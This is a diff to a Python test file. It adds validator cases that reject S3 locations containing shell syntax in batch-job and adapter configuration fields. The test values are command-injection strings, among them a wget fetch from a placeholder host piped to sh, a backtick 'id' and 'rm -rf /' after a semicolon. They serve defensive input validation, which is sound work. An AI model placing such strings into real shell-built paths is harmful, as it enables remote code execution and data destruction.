@@ -429,6 +429,26 @@ VALUE_CASES: list[tuple[str, str, Callable[[dict[str, Any]], None], str]] = [
     ("overcommit-nan", "dev", _set("capacity", {"overcommitRatio": float("nan")}), "capacity.overcommitRatio"),
     ("overcommit-infinite", "dev", _set("capacity", {"overcommitRatio": float("inf")}), "capacity.overcommitRatio"),
     ("replicas-a-boolean", "dev", _set(*DEV_M, "autoscaling", "minReplicas", True), "models[0].autoscaling.minReplicas"),
+    # S3 locations go into the batch jobs' shell scripts and into IAM resources: no shell syntax.
+    *(
+        (f"s3-{where}-{name}", "prod", _set(*path, value), key)
+        for where, path, key in (
+            ("batch-output", ("batchJobs", 0, "output"), "batchJobs[0].output"),
+            ("batch-input", ("batchJobs", 0, "input", "s3Uri"), "batchJobs[0].input.s3Uri"),
+            ("adapter-source", ("models", 1, "adapters", 1, "source", "s3Uri"), "models[1].adapters[1].source.s3Uri"),
+        )
+        for name, value in (
+            ("command-substitution", "s3://team-b-batch/out/$(wget -qO- http://x|sh)"),
+            ("backticks", "s3://team-b-batch/out/`id`"),
+            ("semicolon", "s3://team-b-batch/out;rm -rf /"),
+            ("space", "s3://team-b-batch/out put"),
+            ("glob", "s3://team-b-batch/out/*"),
+            ("quote", "s3://team-b-batch/out'x"),
+            ("newline", "s3://team-b-batch/out\nx"),
+            ("non-ascii", "s3://team-b-batch/\u00e9t\u00e9"),
+            ("too-long", "s3://team-b-batch/" + "a" * 1100),
+        )
+    ),
 ]
 
 
